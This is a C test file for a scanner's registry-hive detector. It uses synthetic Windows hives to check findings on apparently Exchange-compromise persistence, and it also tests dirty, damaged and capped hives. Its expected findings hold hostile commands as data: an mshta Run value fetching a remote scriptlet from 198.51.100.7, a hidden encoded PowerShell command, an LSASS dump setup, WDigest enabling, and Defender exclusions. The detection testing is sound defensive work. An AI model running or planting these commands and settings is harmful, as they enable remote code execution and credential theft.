/* Registry hives end to end (lib/detectors/registry.c): hives from the test writer laid out as a
 * KAPE collection keeps them (Windows/System32/config, a profile's NTUSER.DAT), swept through
 * the public API; exact findings for each attacker change, exact state notes (the build, the
 * install path, updates, EOMT, UM disabled), none on benign hives; dirty and damaged hives,
 * archive members, and the caps. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "core/limits.h"
#include "core/timeparse.h"
#include "exsweep/exsweep.h"
#include "fixfiles.h"
#include "fixhives.h"
#include "hivewriter.h"
#include "memscan.h"
#include "mkarchive.h"
#include "scan/scan_int.h"
#include "state/observe.h"

#define CFG "C/Windows/System32/config/"
#define SETUP "Microsoft\\ExchangeServer\\v15\\Setup"
#define UNINST "Microsoft\\Windows\\CurrentVersion\\Uninstall\\"
#define RUN "Microsoft\\Windows\\CurrentVersion\\Run"
#define EXCL "Microsoft\\Windows Defender\\Exclusions\\"
#define CV "Microsoft\\Windows NT\\CurrentVersion"
#define T1 T_HIVE_T1 /* 2021-03-06T03:06:40Z */
#define T2 T_HIVE_T2 /* 2021-03-07T06:53:20Z */

static char *const root = t_dir;

static void put_hive(const char *rel, t_hw *w, const t_hw_opts *o)
{
    size_t n;
    unsigned char *b = t_hw_build(w, o, &n);
    assert_non_null(b);
    assert_int_equal(t_fix_write(root, rel, b, n), 0);
    free(b);
    t_hw_free(w);
}

static exs_scan *sweep_max(void (*tune)(exs_scan *), uint64_t max_file_size)
{
    exs_scan *s;
    exs_scan_opts d = {1, 0, max_file_size, NULL, 0, 0};
    assert_int_equal(exs_scan_create(&s, &d), EXS_OK);
    if (tune)
        tune(s);
    assert_int_equal(exs_scan_add_root(s, root), EXS_OK);
    assert_int_equal(exs_scan_run(s), EXS_OK);
    return s;
}

static exs_scan *sweep(void (*tune)(exs_scan *))
{
    return sweep_max(tune, 0);
}

static int cmp_line(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Lines, sorted, joined (each with '\n'); frees them. */
static char *joined(char **lines, size_t n)
{
    qsort(lines, n, sizeof *lines, cmp_line);
    size_t len = 1;
    for (size_t i = 0; i < n; i++)
        len += strlen(lines[i]) + 1;
    char *out = malloc(len);
    out[0] = 0;
    for (size_t i = 0; i < n; i++) {
        strcat(out, lines[i]);
        strcat(out, "\n");
        free(lines[i]);
    }
    free(lines);
    return out;
}

static const char *fact(const exs_finding *f, const char *key)
{
    for (size_t i = 0; i < f->nfacts; i++)
        if (strcmp(f->facts[i].key, key) == 0)
            return f->facts[i].value;
    return "-";
}

/* "RULE|verdict|severity|key|value|data|time|trait" per finding. */
static char *findings(const exs_scan *s)
{
    size_t n;
    const exs_finding *f = exs_results_findings(exs_scan_results(s), &n);
    char **lines = calloc(n + 1, sizeof *lines);
    for (size_t i = 0; i < n; i++) {
        char t[32];
        xs_time_format(f[i].time_ms, t);
        size_t cap = 4096;
        lines[i] = malloc(cap);
        snprintf(lines[i], cap, "%s|%s|%s|%s|%s|%s|%s|%s", f[i].rule->id,
                 exs_verdict_name(f[i].verdict), exs_severity_name(f[i].severity),
                 fact(&f[i], "reg_key"), fact(&f[i], "reg_value"), fact(&f[i], "reg_data"), t,
                 fact(&f[i], "reg_trait"));
    }
    return joined(lines, n);
}

/* "build|source|build|first|detail|file" and "kind|family|what|time|file" per observation. */
static char *state(const exs_scan *s)
{
    size_t nb = 0, nn = 0;
    const xs_sbuild *b = s->state ? xs_state_builds(s->state, &nb) : NULL;
    const xs_snote *o = s->state ? xs_state_notes(s->state, &nn) : NULL;
    char **lines = calloc(nb + nn + 1, sizeof *lines);
    for (size_t i = 0; i < nb; i++) {
        char t[32], bt[XS_BUILD_TEXT];
        xs_time_format(b[i].o.first_ms, t);
        lines[i] = malloc(1024);
        snprintf(lines[i], 1024, "build|%s|%s|%s|%s|%s", xs_bsrc_name(b[i].o.source),
                 xs_build_text(&b[i].o.build, bt), t, b[i].o.detail ? b[i].o.detail : "-",
                 b[i].file);
    }
    for (size_t i = 0; i < nn; i++) {
        char t[32];
        xs_time_format(o[i].o.time_ms, t);
        lines[nb + i] = malloc(1024);
        snprintf(lines[nb + i], 1024, "%s|%d|%s|%s|%s", xs_nkind_name(o[i].o.kind),
                 o[i].o.family, o[i].o.what, t, o[i].file);
    }
    return joined(lines, nb + nn);
}

static void expect_text(char *got, const char *want, const char *what)
{
    if (strcmp(got, want) != 0) {
        printf("%s differ.\n--- got:\n%s--- want:\n%s", what, got, want); /* cmocka cuts */
        fail_msg("%s differ", what);
    }
    free(got);
}

static bool warned(const exs_scan *s, const char *kind, const char *text)
{
    size_t n;
    const exs_warning *w = exs_results_warnings(exs_scan_results(s), &n);
    for (size_t i = 0; i < n; i++)
        if (strcmp(w[i].kind, kind) == 0 && strstr(w[i].message, text))
            return true;
    return false;
}

/* ---------------------------------------------------------------- hives */

#define BENIGN_STATE                                                                               \
    "build|registry|15.1.2176.2|2021-03-06T03:06:40.000Z|" SETUP "\\MsiProductMajor 15, "         \
    "MsiProductMinor 1, MsiBuildMajor 2176, MsiBuildMinor 2|C/Windows/System32/config/SOFTWARE\n" \
    "install|-1|D:\\Exchange\\V15\\|2021-03-06T03:06:40.000Z|C/Windows/System32/config/SOFTWARE\n" \
    "service|0|MSExchangeUM disabled (Start=4)|2021-03-07T06:53:20.000Z|"                         \
    "C/Windows/System32/config/SYSTEM\n"                                                           \
    "service|0|MSExchangeUMCR disabled (Start=4)|2021-03-07T06:53:20.000Z|"                       \
    "C/Windows/System32/config/SYSTEM\n"                                                           \
    "update|-1|KB5000871 Security Update for Exchange Server 2016 Cumulative Update 19 "          \
    "(KB5000871)|2021-03-03T00:00:00.000Z|C/Windows/System32/config/SOFTWARE\n"                   \
    "update|-1|KB5001779 Update for Exchange Server 2016 CU19|2021-03-07T06:53:20.000Z|"           \
    "C/Windows/System32/config/SOFTWARE\n"

static void test_benign(void **st)
{
    (void)st;
    put_hive(CFG "SOFTWARE", t_hive_software(), NULL);
    put_hive(CFG "SYSTEM", t_hive_system(1), NULL);
    put_hive("C/Users/admin/NTUSER.DAT", t_hive_ntuser(), NULL);
    exs_scan *s = sweep(NULL);
    expect_text(findings(s), "", "findings");
    expect_text(state(s), BENIGN_STATE, "state");
    assert_int_equal(t_warns(s, "unreadable"), 0);
    assert_int_equal(t_warns(s, "limit"), 0);
    exs_scan_destroy(s);
}

static void test_software_changes(void **st)
{
    (void)st;
    t_hw *w = t_hive_software();
    t_hive_software_changes(w);
    put_hive(CFG "SOFTWARE", w, NULL);
    exs_scan *s = sweep(NULL);
    expect_text(
        findings(s),
        "EXS-REG-DEFENDER-EXCLUSION|exploitation|high|" EXCL "Paths|%ExchangeInstallPath%FrontEnd\\HttpProxy|-|"
        "2021-03-06T03:06:40.000Z|Paths exclusion of the Exchange web folders\n"
        "EXS-REG-DEFENDER-EXCLUSION|exploitation|high|" EXCL "Paths|C:\\inetpub\\wwwroot\\aspnet_client|-|"
        "2021-03-06T03:06:40.000Z|Paths exclusion of the IIS or Exchange web folders\n"
        "EXS-REG-DEFENDER-EXCLUSION|exploitation|high|Policies\\" EXCL "Extensions|.aspx|-|"
        "2021-03-07T06:53:20.000Z|Extensions exclusion of server scripts by extension\n"
        "EXS-REG-DEFENDER-EXCLUSION|suspicious|high|" EXCL "Paths|C:\\|-|"
        "2021-03-06T03:06:40.000Z|Paths exclusion of a whole drive\n"
        "EXS-REG-DEFENDER-EXCLUSION|suspicious|high|" EXCL "Paths|D:\\Exchange\\V15|-|"
        "2021-03-06T03:06:40.000Z|Paths exclusion of the whole Exchange install (web folders "
        "included)\n"
        "EXS-REG-DEFENDER-EXCLUSION|suspicious|high|Policies\\" EXCL "Extensions|*|-|"
        "2021-03-07T06:53:20.000Z|Extensions exclusion of every extension\n"
        "EXS-REG-LSASS-SILENT-EXIT|exploitation|critical|" CV "\\SilentProcessExit\\lsass.exe|"
        "LocalDumpFolder|GlobalFlag=0x200 ReportingMode=2 LocalDumpFolder=c:\\temp DumpType=2|"
        "2021-03-06T03:06:40.000Z|-\n"
        "EXS-REG-RUN|exploitation|high|" RUN "Once|upd|powershell.exe -nop -w hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA|2021-03-01T00:00:00.000Z|powershell runs a "
        "script or command (encoded or downloading)\n"
        "EXS-REG-RUN|exploitation|high|Wow6432Node\\" RUN "|x|C:\\inetpub\\wwwroot\\aspnet_client\\"
        "system_web\\x.exe|2021-03-01T00:00:00.000Z|runs from a web folder (inetpub)\n"
        "EXS-REG-RUN|suspicious|high|" RUN "|svchost|C:\\ProgramData\\svchost.exe|"
        "2021-03-07T06:53:20.000Z|runs from ProgramData\n",
        "findings");
    expect_text(state(s),
                "build|registry|15.1.2176.2|2021-03-06T03:06:40.000Z|" SETUP "\\MsiProductMajor 15, "
                "MsiProductMinor 1, MsiBuildMajor 2176, MsiBuildMinor 2|" CFG "SOFTWARE\n"
                "eomt|0|IISVersion: 1 IIS version 10.0|2021-03-07T06:53:20.000Z|" CFG "SOFTWARE\n"
                "eomt|0|MSERT: 0 MSERT detected threats|2021-03-07T06:53:20.000Z|" CFG "SOFTWARE\n"
                "eomt|0|Timestamp: 03/07/2021 01:00:00|2021-03-07T06:53:20.000Z|" CFG "SOFTWARE\n"
                "install|-1|D:\\Exchange\\V15\\|2021-03-06T03:06:40.000Z|" CFG "SOFTWARE\n"
                "update|-1|KB5000871 Security Update for Exchange Server 2016 Cumulative Update 19 "
                "(KB5000871)|2021-03-03T00:00:00.000Z|" CFG "SOFTWARE\n"
                "update|-1|KB5001779 Update for Exchange Server 2016 CU19|2021-03-07T06:53:20.000Z|"
                CFG "SOFTWARE\n",
                "state");
    exs_scan_destroy(s);
}

/* EOMT's own Timestamp (local time, 12-hour clock) is used only when the key has no time. */
static void test_eomt_timestamp(void **st)
{
    (void)st;
    t_hw *w = t_hw_new(NULL);
    t_hw_key(w, CV, 0);
    t_hw_key(w, "MSERTBootstrap\\PatchState", T_HW_NO_TIME);
    t_hw_sz(w, "MSERTBootstrap\\PatchState", "Timestamp", "03/08/2021 11:30:00");
    t_hw_sz(w, "MSERTBootstrap\\PatchState", "Mitigation", "1 applied");
    put_hive(CFG "SOFTWARE", w, NULL);
    exs_scan *s = sweep(NULL);
    expect_text(state(s),
                "eomt|0|Mitigation: 1 applied|2021-03-08T11:30:00.000Z|" CFG "SOFTWARE\n"
                "eomt|0|Timestamp: 03/08/2021 11:30:00|2021-03-08T11:30:00.000Z|" CFG "SOFTWARE\n",
                "state");
    exs_scan_destroy(s);
}

static void test_system_changes(void **st)
{
    (void)st;
    t_hw *w = t_hive_system(2); /* the changes in the set in use, ControlSet002 */
    t_hive_system_changes(w);
    put_hive(CFG "SYSTEM", w, NULL);
    exs_scan *s = sweep(NULL);
    expect_text(findings(s),
                "EXS-REG-DEARCRY-SERVICE|exploitation|critical|ControlSet002\\Services\\msupdate|"
                "ImagePath|C:\\Users\\Public\\msupdate.exe|2021-03-06T03:06:40.000Z|runs from "
                "Users\\Public\n"
                "EXS-REG-SERVICE|exploitation|high|ControlSet002\\Services\\websvc|ImagePath|"
                "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\"
                "auth\\svc.exe\"|2021-03-01T00:00:00.000Z|runs from an Exchange web folder "
                "(FrontEnd\\HttpProxy)\n"
                "EXS-REG-SERVICE|suspicious|high|ControlSet002\\Services\\netsvc\\Parameters|"
                "ServiceDll|%ProgramData%\\Microsoft\\netsvc.dll|2021-03-07T06:53:20.000Z|runs "
                "from ProgramData\n"
                "EXS-REG-SERVICE|suspicious|high|ControlSet002\\Services\\updsvc|ImagePath|"
                "%COMSPEC% /c C:\\Windows\\Temp\\x.bat|2021-03-07T06:53:20.000Z|cmd runs a "
                "script or command, in Windows\\Temp\n"
                "EXS-REG-WDIGEST|suspicious|high|ControlSet002\\Control\\SecurityProviders\\WDigest|"
                "UseLogonCredential|1|2021-03-07T06:53:20.000Z|-\n",
                "findings");
    exs_scan_destroy(s);
}

static void test_user_run(void **st)
{
    (void)st;
    t_hw *w = t_hive_ntuser();
    t_hive_ntuser_changes(w);
    put_hive("C/Users/admin/NTUSER.DAT", w, NULL);
    exs_scan *s = sweep(NULL);
    expect_text(findings(s),
                "EXS-REG-RUN|exploitation|high|Software\\Microsoft\\Windows\\CurrentVersion\\Run|"
                "helper|mshta.exe javascript:a=GetObject(\"script:http://198.51.100.7/x.sct\")."
                "Exec();close()|2021-03-06T03:06:40.000Z|mshta runs a script or command (encoded "
                "or downloading)\n",
                "findings");
    exs_scan_destroy(s);
}

/* A SYSTEM hive with WDigest on (malloc'd, *n bytes), written as triage.zip's member
 * C/Windows/System32/config/SYSTEM, and also on disk there when on_disk. */
static unsigned char *wdigest_system(size_t *n, bool on_disk)
{
    t_hw *w = t_hive_system(1);
    t_hw_key(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", T2);
    t_hw_dword(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
    unsigned char *b = t_hw_build(w, NULL, n);
    t_hw_free(w);
    assert_non_null(b);
    if (on_disk)
        assert_int_equal(t_fix_write(root, CFG "SYSTEM", b, *n), 0);
    char path[512];
    snprintf(path, sizeof path, "%s/triage.zip", root);
    const char *names[] = {"C/Windows/System32/config/SYSTEM", NULL};
    const char *datas[] = {(const char *)b};
    assert_int_equal(t_write_archive(path, "zip", names, datas, n), 0);
    return b;
}

/* A hive inside a triage archive is read from the archive's stream. */
static void test_archive_member(void **st)
{
    (void)st;
    size_t n;
    free(wdigest_system(&n, false));
    exs_scan *s = sweep(NULL);
    char *got = findings(s);
    assert_non_null(strstr(got, "EXS-REG-WDIGEST|suspicious|high|ControlSet001\\"));
    free(got);
    got = state(s);
    assert_non_null(strstr(got, "service|0|MSExchangeUM disabled (Start=4)|"
                                "2021-03-07T06:53:20.000Z|triage.zip!/C/Windows/System32/config/SYSTEM\n"));
    free(got);
    exs_scan_destroy(s);
}

/* A hive larger than --max-file-size is read all the same: on disk again from its start, in
 * an archive (no second read) kept whole by the file side up to the hive cap. */
static void test_past_max_file_size(void **st)
{
    (void)st;
    size_t n;
    free(wdigest_system(&n, true));
    assert_true(n > 8192);
    exs_scan *s = sweep_max(NULL, 4096);
    size_t nf;
    const exs_finding *f = exs_results_findings(exs_scan_results(s), &nf);
    size_t wd = 0;
    for (size_t i = 0; i < nf; i++)
        wd += strcmp(f[i].rule->id, "EXS-REG-WDIGEST") == 0;
    assert_int_equal(wd, 2); /* the file on disk and the archive member */
    assert_int_equal(t_warns(s, "limit"), 0);
    exs_scan_destroy(s);
}

static void test_dirty(void **st)
{
    (void)st;
    t_hw_opts o = {true, 0, "\\??\\C:\\Windows\\System32\\config\\SYSTEM", 0};
    put_hive(CFG "SYSTEM", t_hive_system(1), &o);
    exs_scan *s = sweep(NULL);
    assert_true(warned(s, "unreadable", "dirty hive: its transaction logs were not applied; "
                                        "recent changes may be missing"));
    assert_int_equal(t_warns(s, "unreadable"), 1);
    char *got = state(s); /* read all the same */
    assert_non_null(strstr(got, "MSExchangeUMCR disabled"));
    free(got);
    exs_scan_destroy(s);
}

/* A dirty hive with its .LOG1 beside it: the log's entry is applied to the copy (the evidence
 * is left as it was), and what it brought is read. */
static void test_dirty_replayed(void **st)
{
    (void)st;
    t_hw_opts o = {true, 0, NULL, 0};
    size_t n[2];
    unsigned char *h[2];
    t_hw *w = t_hive_system(1);
    h[0] = t_hw_build(w, &o, &n[0]);
    t_hw_free(w);
    w = t_hive_system(1);
    t_hw_key(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", T2);
    t_hw_dword(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
    h[1] = t_hw_build(w, &o, &n[1]);
    t_hw_free(w);
    size_t ln;
    unsigned char *log = t_hw_log((const unsigned char *const *)h, n, 2, 6, false, &ln);
    assert_int_equal(t_fix_write(root, CFG "SYSTEM", h[0], n[0]), 0);
    assert_int_equal(t_fix_write(root, CFG "SYSTEM.LOG1", log, ln), 0);
    exs_scan *s = sweep(NULL);
    expect_text(findings(s),
                "EXS-REG-WDIGEST|suspicious|high|ControlSet001\\Control\\SecurityProviders\\WDigest|"
                "UseLogonCredential|1|2021-03-07T06:53:20.000Z|-\n",
                "findings");
    assert_int_equal(t_warns(s, "unreadable"), 0);
    exs_scan_destroy(s);
    /* the evidence is as it was */
    char path[512];
    snprintf(path, sizeof path, "%s/" CFG "SYSTEM", root);
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    unsigned char *back = malloc(n[0]);
    assert_int_equal(fread(back, 1, n[0], f), n[0]);
    fclose(f);
    assert_memory_equal(back, h[0], n[0]);
    free(back);
    /* a damaged log: nothing applied, said */
    log[512 + 30] ^= 0x55;
    assert_int_equal(t_fix_write(root, CFG "SYSTEM.LOG1", log, ln), 0);
    s = sweep(NULL);
    expect_text(findings(s), "", "findings");
    assert_true(warned(s, "unreadable", "dirty hive: its transaction logs were not applied"));
    exs_scan_destroy(s);
    free(log);
    free(h[0]);
    free(h[1]);
}

/* The log cap: a .LOG1 past XS_HIVE_MAX_LOG_BYTES (sparse) is not read, and said. */
static void test_log_cap(void **st)
{
    (void)st;
    t_hw_opts o = {true, 0, NULL, 0, false};
    put_hive(CFG "SYSTEM", t_hive_system(1), &o);
    assert_int_equal(t_fix_write(root, CFG "SYSTEM.LOG1", "regf", 4), 0);
    char path[512];
    snprintf(path, sizeof path, "%s/" CFG "SYSTEM.LOG1", root);
    assert_int_equal(truncate(path, (off_t)XS_HIVE_MAX_LOG_BYTES + 1), 0);
    exs_scan *s = sweep(NULL);
    char want[160];
    snprintf(want, sizeof want, "transaction log of %llu bytes past the %u-byte cap: not applied",
             (unsigned long long)XS_HIVE_MAX_LOG_BYTES + 1, (unsigned)XS_HIVE_MAX_LOG_BYTES);
    assert_true(warned(s, "limit", want));
    assert_true(warned(s, "unreadable", "dirty hive: its transaction logs were not applied"));
    exs_scan_destroy(s);
}

static void test_damaged(void **st)
{
    (void)st;
    t_hw *w = t_hive_software();
    size_t n;
    unsigned char *b = t_hw_build(w, NULL, &n);
    t_hw_free(w);
    memset(b + 4096 + 32, 0xA5, n - 4096 - 32); /* every cell */
    assert_int_equal(t_fix_write(root, CFG "SOFTWARE", b, n), 0);
    /* a transaction log's copy of a base block is not a hive to read */
    b[0x1C] = 2;
    assert_int_equal(t_fix_write(root, CFG "SOFTWARE.LOG1", b, 4096), 0);
    free(b);
    exs_scan *s = sweep(NULL);
    assert_true(warned(s, "unreadable", "registry hive not readable: "));
    assert_int_equal(t_warns(s, "unreadable"), 1);
    expect_text(findings(s), "", "findings");
    exs_scan_destroy(s);
}

/* ---------------------------------------------------------------- caps */

static void lower_subkeys(exs_scan *s)
{
    s->hive_limits.max_subkeys = 2;
}

static void lower_values(exs_scan *s)
{
    s->hive_limits.max_values = 1;
}

static void lower_keys(exs_scan *s)
{
    s->hive_limits.max_keys = 4;
}

static void lower_depth(exs_scan *s)
{
    s->hive_limits.max_depth = 2;
}

static void lower_data(exs_scan *s)
{
    s->hive_limits.max_data = 8;
}

static void lower_bin(exs_scan *s)
{
    s->hive_limits.max_bin = 4096;
}

static void lower_bytes(exs_scan *s)
{
    s->hive_limits.max_bytes = 4096;
}

static void test_caps(void **st)
{
    (void)st;
    static void (*const tunes[])(exs_scan *) = {lower_subkeys, lower_values, lower_keys,
                                                lower_depth, lower_data};
    static const char *const says[] = {
        "(caps of the hive reader): 4 subkeys past the per-key cap",
        "values past the per-key cap", "keys past the per-hive cap", "keys too deep",
        "values whose data is too large to read"};
    for (size_t i = 0; i < sizeof tunes / sizeof tunes[0]; i++) {
        put_hive(CFG "SYSTEM", t_hive_system(1), NULL);
        put_hive(CFG "SOFTWARE", t_hive_software(), NULL);
        exs_scan *s = sweep(tunes[i]);
        size_t n;
        const exs_warning *wv = exs_results_warnings(exs_scan_results(s), &n);
        bool seen = false;
        for (size_t j = 0; j < n; j++)
            if (strcmp(wv[j].kind, "limit") == 0 && strstr(wv[j].message, "read in part"))
                seen = strstr(wv[j].message, says[i]) != NULL;
        if (!seen) {
            for (size_t j = 0; j < n; j++)
                printf("warning %s: %s\n", wv[j].kind, wv[j].message);
            fail_msg("cap %zu: no warning saying \"%s\"", i, says[i]);
        }
        exs_scan_destroy(s);
    }
    /* a hive bin past the cap: the hive is not read */
    char sw[512];
    snprintf(sw, sizeof sw, "%s/" CFG "SOFTWARE", root);
    assert_int_equal(unlink(sw), 0);
    t_hw_opts one = {false, 0, NULL, 0, true};
    t_hw *w1 = t_hive_system(1);
    for (int i = 0; i < 60; i++) { /* more than a page of cells */
        char name[64];
        snprintf(name, sizeof name, "ControlSet001\\Services\\pad%02d", i);
        t_hw_expand_sz(w1, name, "ImagePath", "%SystemRoot%\\system32\\svchost.exe -k netsvcs");
    }
    size_t bn;
    unsigned char *bb = t_hw_build(w1, &one, &bn);
    t_hw_free(w1);
    assert_int_equal(t_fix_write(root, CFG "SYSTEM", bb, bn), 0);
    free(bb);
    exs_scan *sb = sweep(lower_bin);
    char want[128];
    snprintf(want, sizeof want, "registry hive not read: a hive bin of %zu bytes, past the "
             "4096-byte cap", bn - 4096);
    assert_true(warned(sb, "limit", want));
    expect_text(state(sb), "", "state");
    exs_scan_destroy(sb);
    /* bytes: a larger hive is not read at all */
    put_hive(CFG "SYSTEM", t_hive_system(1), NULL);
    exs_scan *s = sweep(lower_bytes);
    assert_true(warned(s, "limit", "past the 4096-byte cap: not read"));
    expect_text(state(s), "", "state");
    exs_scan_destroy(s);
}

/* The real byte cap, on a sparse file past it: refused by its size, never read. */
static void test_bytes_cap(void **st)
{
    (void)st;
    t_hw *w = t_hive_system(1);
    size_t n;
    unsigned char *b = t_hw_build(w, NULL, &n);
    t_hw_free(w);
    assert_int_equal(t_fix_write(root, CFG "SYSTEM", b, n), 0);
    free(b);
    char path[512];
    snprintf(path, sizeof path, "%s/" CFG "SYSTEM", root);
    assert_int_equal(truncate(path, (off_t)XS_HIVE_MAX_BYTES + 4096), 0);
    exs_scan *s = sweep(NULL);
    char msg[128];
    snprintf(msg, sizeof msg, "past the %llu-byte cap: not read",
             (unsigned long long)XS_HIVE_MAX_BYTES);
    assert_true(warned(s, "limit", msg));
    expect_text(state(s), "", "state");
    exs_scan_destroy(s);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, t_dir_setup, t_dir_teardown)
    const struct CMUnitTest tests[] = {
        T(test_benign),      T(test_software_changes), T(test_system_changes),
        T(test_user_run),    T(test_archive_member),   T(test_dirty),
        T(test_damaged),     T(test_caps),             T(test_bytes_cap),
        T(test_dirty_replayed), T(test_eomt_timestamp), T(test_log_cap),
        T(test_past_max_file_size),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
